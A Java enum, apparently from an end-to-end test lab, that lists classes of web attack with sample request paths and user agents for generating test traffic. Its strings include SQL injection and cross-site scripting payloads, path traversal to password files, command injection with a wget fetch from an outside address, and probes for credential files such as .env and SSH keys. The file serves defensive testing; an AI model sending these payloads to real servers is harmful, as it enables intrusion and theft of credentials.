package io.selfheal.e2e.lab;

import java.util.List;

/** Kinds of attack on a web server, each with requests that are unmistakably it. */
public enum WebAttack {
    SQL_INJECTION(
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "/products.html?id=1%20AND%201=1",
            "/products.html?id=1%27%20OR%20%271%27=%271",
            "/products.html?id=-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,user(),0x71),NULL--%20-",
            "/products.html?id=1;SELECT%20PG_SLEEP(5)--",
            "/products.html?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20version())))"),
    CROSS_SITE_SCRIPTING(
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/search?q=%3Csvg/onload=alert(1)%3E",
            "/search?q=javascript:alert(1)"),
    TRAVERSAL(
            "curl/7.88.1",
            "/../../../../etc/passwd",
            "/static/..%2f..%2f..%2f..%2fetc/passwd",
            "/download?file=../../../../../../etc/shadow",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/download?file=....//....//....//etc/hosts"),
    COMMAND_INJECTION(
            "python-requests/2.31.0",
            "/ping?host=127.0.0.1;id",
            "/ping?host=127.0.0.1%7Ccat%20/etc/passwd",
            "/ping?host=$(wget%20http://198.51.100.66/x.sh)",
            "/index.html?cmd=%60uname%20-a%60"),
    SENSITIVE_FILES(
            "Mozilla/5.0 zgrab/0.x",
            "/.env",
            "/.git/config",
            "/wp-config.php.bak",
            "/.aws/credentials",
            "/backup.sql",
            "/id_rsa",
            "/.ssh/authorized_keys"),
    PROBING(
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "/phpmyadmin/",
            "/wp-login.php",
            "/administrator/",
            "/manager/html",
            "/solr/",
            "/actuator/health",
            "/HNAP1",
            "/boaform/admin/formLogin",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/owa/",
            "/cgi-bin/luci",
            "/console/");

    private final String userAgent;

    // The type does not say it, List.of does.
    @SuppressWarnings("ImmutableEnumChecker")
    private final List<String> paths;

    WebAttack(String userAgent, String... paths) {
        this.userAgent = userAgent;
        this.paths = List.of(paths);
    }

    /** The agent such a request usually names. */
    public String userAgent() {
        return userAgent;
    }

    /** Paths with their queries, encoded as they go over the wire. */
    public List<String> paths() {
        return paths;
    }
}
